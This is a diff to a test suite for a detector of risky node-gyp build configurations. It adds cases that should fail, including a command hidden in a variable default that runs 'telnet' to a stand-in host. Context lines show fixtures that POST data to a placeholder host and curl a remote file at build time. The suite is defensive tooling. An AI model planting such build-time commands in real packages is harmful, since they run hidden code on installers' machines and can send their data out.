@@ -46,6 +46,13 @@ describeRule(nativeBuild, {
           require("https").request({ host: "headers.example.test", method: "POST" }).end(rc);`,
       },
     ),
+    "a loaded package that nobody declared": gyp(
+      target(`"include_dirs": ["<!(node -e \\"try{console.log(require('other').dir)}catch{}\\")"]`),
+    ),
+    "a default that is a command": gyp(target(`"includes": ["other/other.gypi"]`), {
+      ...source,
+      "other/other.gypi": `{ "variables": { "other_root%": "telnet files.example.test" }, "x": ["<!(<(other_root))"] }`,
+    }),
     "a fetching action": gyp(
       target(`"actions": [ { "action": ["curl", "-o", "a", "https://files.example.test/a"] } ]`),
     ),
@@ -69,6 +76,14 @@ describeRule(nativeBuild, {
     },
   },
   passes: {
+    "where another package is, with what stands in for it": gyp(
+      `{ "variables": { "other_root": "./other" }, "includes": ["./other/other.gypi"], ${target("").slice(1)}`,
+      {
+        ...source,
+        "other/probe.js": "require('fs').writeFileSync('probes.h', '');",
+        "other/other.gypi": `{ "variables": { "other_root%": "<!(node -e \\"try{console.log(require('path').dirname(require.resolve('other/package.json')))}catch{console.log('other')}\\")" }, "targets": [ { "target_name": "lib", "sources": ["src/addon.cc"], "actions": [ { "outputs": ["<!(node -e \\"console.log(require('path').resolve('<(other_root)','probes.h'))\\")"], "action": ["node", "<(other_root)/probe.js"] } ] } ] }`,
+      },
+    ),
     "a generator of the package": gyp(target(`"libraries": ["<!(node gen.js)"]`), {
       ...source,
       "gen.js": `require("fs").writeFileSync(__dirname + "/config.h", "#define ARCH " + process.arch);`,
